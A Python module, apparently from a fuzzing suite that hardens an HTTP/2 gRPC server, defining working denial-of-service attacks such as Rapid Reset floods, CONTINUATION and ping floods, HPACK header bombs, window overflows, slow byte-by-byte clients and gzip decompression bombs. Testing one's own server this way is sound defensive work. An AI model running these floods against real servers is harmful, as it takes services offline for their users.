"""What HTTP/2 lets a client do to a server, each in small or in large.

Every attack is over when the function returns; none has to be answered. What the server is like
afterwards is for `fuzz.campaign` to say.
"""

import socket
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from functools import cache

from fuzz import frames, metadata
from fuzz.connection import Connection
from fuzz.world import Target
from security import http2, wire
from support.raw import SERVICE

_LIST = f"/{SERVICE}/ListUsers".encode()
_WATCH = b"/grpc.health.v1.Health/Watch"
_CANCEL = struct.pack(">I", 0x8)
_MANY = 200
"""Frames that are sent at once."""

Attack = Callable[[Target, int], int]
"""Attacks with so much force; returns how many inputs it has sent."""


def _opened(target: Target, stack: ExitStack, count: int, **options: bool) -> list[Connection]:
    connections = [stack.enter_context(Connection(target.address, **options)) for _ in range(count)]
    for connection in connections:
        connection.start()
    return connections


def _headers(target: Target, path: bytes = _LIST, *more: http2.Header) -> bytes:
    name, value = metadata.key_header("fuzz-super")
    known = [*http2.request_headers(path), (name, target.real(value)), *more]
    return http2.header_block(known)


def _flood(target: Target, frame: Callable[[int], bytes], count: int) -> int:
    """So many frames on one connection, until the server has had enough of them."""
    with Connection(target.address) as connection:
        connection.start()
        for begin in range(0, count, _MANY):
            if connection.closed:
                break
            connection.send(b"".join(frame(begin + number) for number in range(_MANY)))
        connection.settle()
    return count


def rapid_reset(target: Target, force: int) -> int:
    """Calls that are cancelled as soon as they have begun."""
    block = _headers(target)

    def begun_and_cancelled(number: int) -> bytes:
        stream = 2 * number + 1
        return http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block) + http2.frame(
            http2.RST_STREAM, 0, stream, _CANCEL
        )

    return _flood(target, begun_and_cancelled, 200 * force)


def rapid_reset_of_whole_calls(target: Target, force: int) -> int:
    """The same, with all that it takes to carry them out."""
    block = _headers(target)

    def called_and_cancelled(number: int) -> bytes:
        stream = 2 * number + 1
        return (
            http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block)
            + http2.frame(http2.DATA, http2.END_STREAM, stream, http2.framed(b""))
            + http2.frame(http2.RST_STREAM, 0, stream, _CANCEL)
        )

    return _flood(target, called_and_cancelled, 200 * force)


def pings(target: Target, force: int) -> int:
    return _flood(
        target, lambda n: http2.frame(http2.PING, 0, 0, n.to_bytes(8, "big")), 400 * force
    )


def settings(target: Target, force: int) -> int:
    def changed(number: int) -> bytes:
        return http2.frame(http2.SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65_535 + number))

    return _flood(target, changed, 400 * force)


def acknowledgements(target: Target, force: int) -> int:
    return _flood(target, lambda _: http2.frame(http2.SETTINGS, http2.ACK, 0, b""), 400 * force)


def priorities(target: Target, force: int) -> int:
    def depends_on_itself(number: int) -> bytes:
        return http2.frame(
            http2.PRIORITY, 0, 2 * number + 1, struct.pack(">IB", 2 * number + 1, 255)
        )

    return _flood(target, depends_on_itself, 400 * force)


def frames_of_no_kind(target: Target, force: int) -> int:
    return _flood(target, lambda n: http2.frame(0x20 + n % 200, n % 256, n, b"x" * 20), 400 * force)


def resets_of_nothing(target: Target, force: int) -> int:
    return _flood(
        target, lambda n: http2.frame(http2.RST_STREAM, 0, 2 * n + 1, _CANCEL), 400 * force
    )


def goaways(target: Target, force: int) -> int:
    return _flood(
        target, lambda _: http2.frame(http2.GOAWAY, 0, 0, bytes(8) + b"x" * 99), 200 * force
    )


def empty_data(target: Target, force: int) -> int:
    """A message that never comes, in ever more frames."""
    begun = http2.frame(http2.HEADERS, http2.END_HEADERS, 1, _headers(target))

    def nothing(number: int) -> bytes:
        return (b"" if number else begun) + http2.frame(http2.DATA, 0, 1, b"")

    return _flood(target, nothing, 400 * force)


def continuations(target: Target, force: int) -> int:
    """Headers without end, of which each frame has next to nothing."""
    begun = http2.frame(http2.HEADERS, 0, 1, _headers(target))

    def more(number: int) -> bytes:
        header = http2.header_block([(b"x-%d" % number, b"y")])
        return (b"" if number else begun) + http2.frame(http2.CONTINUATION, 0, 1, header)

    return _flood(target, more, 400 * force)


def header_bomb(target: Target, force: int) -> int:
    """A header that is sent once, and then meant a thousand times, for a byte each."""
    large = b"\x40" + http2.text(b"x-large") + http2.text(b"y" * 4000)

    def bomb(number: int) -> bytes:
        block = _headers(target) + (large if number == 0 else b"") + b"\xbe" * 10_000
        stream = 2 * number + 1
        ends = http2.END_HEADERS | http2.END_STREAM
        return http2.frame(http2.HEADERS, ends, stream, block)

    with Connection(target.address) as connection:
        connection.start()
        for number in range(force):
            connection.send(bomb(number))
        connection.settle()
    return force


def large_headers(target: Target, force: int) -> int:
    def large(number: int) -> bytes:
        block = _headers(target, _LIST, (b"x-large", b"y" * 15_000))
        ends = http2.END_HEADERS | http2.END_STREAM
        return http2.frame(http2.HEADERS, ends, 2 * number + 1, block)

    with Connection(target.address) as connection:
        connection.start()
        for number in range(10 * force):
            connection.send(large(number))
        connection.settle()
    return 10 * force


def windows_beyond_all(target: Target, force: int) -> int:
    """A window that overflows: of the connection, and of a stream."""
    update = struct.pack(">I", 2**31 - 1)
    begun = http2.frame(http2.HEADERS, http2.END_HEADERS, 1, _headers(target))
    for _ in range(force):
        for stream in (0, 1):
            with Connection(target.address) as connection:
                connection.start()
                connection.send(begun + http2.frame(http2.WINDOW_UPDATE, 0, stream, update) * 3)
                connection.settle()
    return 2 * force


def answers_that_nobody_reads(target: Target, force: int) -> int:
    """Calls whose answers have no room on the way, and then a client that reads nothing at all."""
    call = b"".join(
        http2.frame(http2.HEADERS, http2.END_HEADERS, stream, _headers(target))
        + http2.frame(http2.DATA, http2.END_STREAM, stream, http2.framed(b""))
        for stream in range(1, 101, 2)
    )
    no_window = struct.pack(">HI", 0x4, 0)
    with ExitStack() as stack:
        for number in range(4 * force):
            deaf = stack.enter_context(Connection(target.address, deaf=number % 2 == 1))
            deaf.start(no_window)
            deaf.send(call)
        time.sleep(0.1)
    return 4 * force * 50


def _drips(content: bytes) -> Iterator[bytes]:
    for at in range(len(content)):
        yield content[at : at + 1]


def byte_by_byte(target: Target, force: int) -> int:
    """Clients that say what they want, one byte at a time."""
    call = http2.frame(http2.HEADERS, http2.END_HEADERS, 1, _headers(target)) + http2.frame(
        http2.DATA, http2.END_STREAM, 1, http2.framed(b"")
    )
    with ExitStack() as stack:
        slow = _opened(target, stack, 5 * force)
        for byte in _drips(call):
            for connection in slow:
                connection.send(byte)
        for connection in slow:
            assert connection.wait_for(1), "a slow caller was not answered"
    return 5 * force


def half_a_beginning(target: Target, force: int) -> int:
    """Connections that begin, and never go on."""
    with ExitStack() as stack:
        for number in range(25 * force):
            connection = stack.enter_context(Connection(target.address))
            connection.send(http2.PREFACE[: number % len(http2.PREFACE)])
    return 25 * force


def connections_without_a_word(target: Target, force: int) -> int:
    host, _, port = target.address.rpartition(":")
    for number in range(25 * force):
        with socket.create_connection((host, int(port))) as connection:
            if number % 2:  # the end comes as a reset
                linger = struct.pack("ii", 1, 0)
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
    return 25 * force


def other_protocols(target: Target, force: int) -> int:
    """TLS, HTTP/1.1, and what is nothing."""
    spoken = (
        frames.TLS_HELLO + bytes(200),
        b"GET / HTTP/1.1\r\nhost: x\r\n\r\n",
        b"POST / HTTP/1.1\r\nhost: x\r\nupgrade: h2c\r\nconnection: upgrade\r\n\r\n",
        b"SSH-2.0-x\r\n",
        b"\0" * 5000,
        b"\xff" * 5000,
        b"PRI * HTTP/1.1\r\n\r\nSM\r\n\r\n",
    )
    for content in spoken * force:
        with Connection(target.address) as connection:
            connection.send(content)
            connection.settle(0.02)
    return len(spoken) * force


@cache
def _bomb(mebibytes: int) -> bytes:
    return frames.compressed(bytes(mebibytes << 20))


def packed_bombs(target: Target, force: int) -> int:
    """Small messages that are huge when they are unpacked."""
    body = http2.framed(_bomb(8 * force**3), flag=1)
    block = _headers(target, _LIST, (b"grpc-encoding", b"gzip"))
    with Connection(target.address) as connection:
        connection.start()
        for stream in (1, 3, 5):
            connection.send(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block))
            _send_data(connection, stream, body)
        assert connection.wait_for(1, 3, 5), "a packed bomb was not answered"
    return 3


def _send_data(connection: Connection, stream: int, body: bytes) -> None:
    """Sends a body without a look at the window: the server opens it as it reads."""
    for begin in range(0, len(body), 16_384):
        ends = http2.END_STREAM if begin + 16_384 >= len(body) else 0
        piece = body[begin : begin + 16_384]
        connection.send(http2.frame(http2.DATA, ends, stream, piece))
        connection.settle()


def messages_that_are_promised(target: Target, force: int) -> int:
    """Messages of gigabytes, of which a few bytes come."""
    promise = b"\0\xff\xff\xff\xff" + b"x" * 1000
    with ExitStack() as stack:
        for connection in _opened(target, stack, force):
            for stream in range(1, 101, 2):
                connection.send(
                    http2.frame(http2.HEADERS, http2.END_HEADERS, stream, _headers(target))
                    + http2.frame(http2.DATA, 0, stream, promise)
                )
            connection.settle()
    return 50 * force


def more_streams_than_allowed(target: Target, force: int) -> int:
    """Streams that are opened, and say nothing: several times as many as there may be."""
    block = _headers(target)

    def begun(number: int) -> bytes:
        return http2.frame(http2.HEADERS, http2.END_HEADERS, 2 * number + 1, block)

    return _flood(target, begun, 400 * force)


def watchers_of_nothing(target: Target, force: int) -> int:
    """Who watches the health of services that there are not, by ever other, ever longer names."""
    block = _headers(target, _WATCH)
    for begin in range(20 * force):
        with Connection(target.address) as connection:
            connection.start()
            name = wire.block(1, b"%d" % begin + b"x" * 60_000)
            connection.send(http2.frame(http2.HEADERS, http2.END_HEADERS, 1, block))
            _send_data(connection, 1, http2.framed(name))
    return 20 * force


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        rapid_reset_of_whole_calls,
        pings,
        settings,
        acknowledgements,
        priorities,
        frames_of_no_kind,
        resets_of_nothing,
        goaways,
        empty_data,
        continuations,
        header_bomb,
        large_headers,
        windows_beyond_all,
        answers_that_nobody_reads,
        byte_by_byte,
        half_a_beginning,
        connections_without_a_word,
        other_protocols,
        packed_bombs,
        messages_that_are_promised,
        more_streams_than_allowed,
        watchers_of_nothing,
    )
}
"""By their names."""
